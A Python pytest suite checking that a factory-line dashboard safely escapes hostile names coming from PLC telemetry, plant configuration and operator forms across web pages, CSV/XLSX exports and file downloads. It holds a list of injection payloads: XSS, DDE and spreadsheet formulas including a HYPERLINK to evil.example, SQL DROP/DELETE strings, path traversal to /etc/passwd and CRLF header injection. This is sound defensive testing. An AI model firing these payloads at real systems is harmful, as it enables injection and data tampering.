"""Names that want to be more than names: from PLCs, forms and the plant, on every page, file and table."""

import csv
import io
import json
import re
import zipfile
from collections.abc import AsyncIterator, Iterator
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest

from cloud import plant as plants
from cloud.config import CloudConfig
from cloud.opening import open_store
from cloud.service import Cloud
from cloud.store.port import Arrivals
from cloud.store.rows import to_telemetry
from contract.machine_key import MachineKey
from contract.states import MachineState
from contract.telemetry import Telemetry
from dashboards.web.app import Pages

SHIFT, HOUR = 1_625_025_600, 3600  # 06:00 at the plant on 30 June 2021
LINE = "berlin/packaging/line-1"
FILLER = MachineKey.parse(f"{LINE}/filler-1")
MARK = "zzowned"
HOSTILE = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"' onmouseover='{MARK}()",
    f"</title></style><svg onload={MARK}()>",
    f"javascript:{MARK}()",
    f"{{{{ 7*7 }}}}{{% {MARK} %}}",
    f"=cmd|' /C {MARK}'!A0",
    f'=HYPERLINK("http://evil.example/{MARK}","x")',
    f"+{MARK}",
    f"-1+{MARK}",
    f"@SUM({MARK})",
    f"\t={MARK}",
    f"'; DROP TABLE shift; -- {MARK}",
    f'"); DELETE FROM alert; -- {MARK}',
    f"../../../../{MARK}",
    f"..\\..\\{MARK}",
    f"%2e%2e%2f{MARK}",
    f"a\x00b{MARK}",
    f"line\r\nSet-Cookie: {MARK}=1",
    f"\u202e{MARK}\u2066",
    f"{MARK}" + "\U0001f4a5" * 100,
)
PLANT = """
[site]
name = "berlin"
timezone = "Europe/Berlin"

[calendar.three-shift]
shifts = [
  { name = "1", start = "06:00", end = "14:00" },
  { name = "2", start = "14:00", end = "22:00" },
  { name = "3", start = "22:00", end = "06:00" },
]

[reason.jam]
name = "<b onclick=zzowned()>Jam</b>"
group = "=zzowned"
category = "breakdown"

[[machine]]
area = "packaging"
line = "line-1"
name = "filler-1"
calendar = "three-shift"
ideal_run_rate = 60.0
"""
PAGES = (
    "/",
    "/tv",
    "/place",
    f"/place?at={FILLER}",
    "/timeline",
    "/timeline?shift=2021-06-30/1",
    "/stops",
    f"/stop?at={FILLER}&since={SHIFT + HOUR}&until={SHIFT + HOUR + 1200}",
    "/losses?shift=2021-06-30/1",
    "/losses?days=2",
    "/hourly",
    "/shifts",
    "/trends",
    "/alerts",
    "/connections",
    "/reports",
    f"/report?at={FILLER}&shift=2021-06-30/1",
    "/report.html?shift=2021-06-30/1",
)


class Markup(HTMLParser):
    """Collects what a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.runs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if MARK in tag or any(MARK in name for name in given):
            self.runs.append(f"<{tag} {given}>")
        if any(name.startswith("on") for name in given):
            self.runs.append(f"<{tag} {given}>")
        if tag == "script" and "src" not in given and given.get("type") != "application/json":
            self.runs.append("<script> in the page")
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            if re.match(r"\s*(javascript|data|https?|//)", given.get(name, ""), re.IGNORECASE):
                self.runs.append(f"<{tag} {name}={given[name]!r}>")


def records() -> list[Telemetry]:
    """Return a shift in which every text that a PLC can send is hostile; one stop per hostile reason."""
    found = []
    for index, at in enumerate(range(SHIFT - HOUR, SHIFT + 9 * HOUR, 30)):
        text = HOSTILE[(at // 600) % len(HOSTILE)]
        stands = (at // 600) % 2 == 0
        found.append(
            Telemetry(
                **FILLER._asdict(),
                epochtime=at,
                state=MachineState.FAULTED if stands else MachineState.RUNNING,
                reason_code=text,
                product=text,
                order=text,
                operator=text,
                status=text,
                data_quality="uncertain",
                tags={text: text},
                total_units=index * 15,
                off_quality_units=index // 3,
                gateway="gw",
                sequence=index,
            )
        )
    return found


@pytest.fixture
def cloud(tmp_path: Path) -> Iterator[Cloud]:
    (tmp_path / "plant.toml").write_text(PLANT)
    tables = {
        "data_dir": str(tmp_path / "store"),
        "shift_close_grace_secs": 0.0,
        "revision_settle_secs": 0.0,
    }
    config = CloudConfig.model_validate({"cloud": tables})
    store = open_store(config)
    now_us = [(SHIFT + 9 * HOUR) * 1_000_000]
    found = Cloud(config, plants.load(tmp_path / "plant.toml"), store, now_us=lambda: now_us[0])
    found._present.add(store.append(Arrivals(records())))
    for _ in range(2):
        found._present.look()
        now_us[0] += 2_500_000
    yield found
    store.close()


@pytest.fixture
async def client(cloud: Cloud) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=Pages(cloud, clock=lambda: SHIFT + 9 * HOUR).application)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as found:
        yield found


async def comment(client: httpx.AsyncClient) -> None:
    """Say hostile things about a stop in the form."""
    stops = (await client.get(f"/api/v1/stops?from={SHIFT}&to={SHIFT + 8 * HOUR}&at={FILLER}")).json()
    for stop, text in zip(stops, HOSTILE, strict=False):
        form = {
            "at": str(FILLER),
            "since": stop["start_epochtime"],
            "until": stop["end_epochtime"],
            "operator": text[:60],
            "comment": text,
            "reason": "jam",
        }
        assert (await client.post("/stop", data=form)).status_code in {303, 400}


async def test_pages_show_them_as_text(client: httpx.AsyncClient) -> None:
    await comment(client)
    seen = 0
    for path in PAGES:
        answer = await client.get(path)
        assert answer.status_code == 200, (path, answer.text[:200])
        assert "set-cookie" not in answer.headers, path
        markup = Markup()
        markup.feed(answer.text)
        assert markup.runs == [], path
        seen += MARK in answer.text
    assert seen >= 5, "the hostile names were not even shown"


async def test_spreadsheets_hold_no_formula_of_theirs(client: httpx.AsyncClient) -> None:
    await comment(client)
    query = f"at={FILLER}&shift=2021-06-30/1"
    table = (await client.get(f"/report.csv?{query}")).text.removeprefix("\N{ZERO WIDTH NO-BREAK SPACE}")
    exported = (await client.get(f"/api/v1/stops?from={SHIFT}&to={SHIFT + 8 * HOUR}&form=csv")).text
    for text in (table, exported):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not (MARK in cell and cell.lstrip().startswith(("=", "+", "-", "@"))), cell
    answer = await client.get(f"/report.xlsx?{query}")
    book = zipfile.ZipFile(io.BytesIO(answer.content))
    for name in book.namelist():
        part = book.read(name).decode("utf-8", "replace")
        assert not re.search(rf"<f>[^<]*{MARK}", part), name
        assert "<hyperlink" not in part, name


async def test_files_are_named_after_places_and_dates_alone(client: httpx.AsyncClient) -> None:
    for suffix in ("csv", "xlsx", "json", "html"):
        answer = await client.get(f"/report.{suffix}?at={FILLER}&shift=2021-06-30/1")
        told = answer.headers.get("content-disposition", "")
        assert re.fullmatch(r"|(attachment|inline); filename=\"?[A-Za-z0-9_.-]+\"?", told), told
    for place in ("../../etc/passwd", "berlin/../..", "a\x00b", "<b>/x/y/z", "%2e%2e/%2e%2e"):
        answer = await client.get("/report.csv", params={"at": place})
        assert answer.status_code in {400, 404}, place


async def test_the_store_gives_back_every_name_as_it_came(cloud: Cloud, client: httpx.AsyncClient) -> None:
    await comment(client)
    stored = to_telemetry(cloud._store.read_table([0], 0, 2**62), cloud._store.names)
    assert stored == records()
    told = (await client.get(f"/api/v1/stops?from={SHIFT}&to={SHIFT + 8 * HOUR}&at={FILLER}")).text
    assert MARK in told
    json.loads(told)
    for question in ("at", "from", "level", "every", "shift"):
        for text in HOSTILE:
            answer = await client.get("/api/v1/figures", params={question: text})
            assert answer.status_code in {400, 404, 422}, (question, text)
            assert answer.headers["content-type"].startswith("application/json")
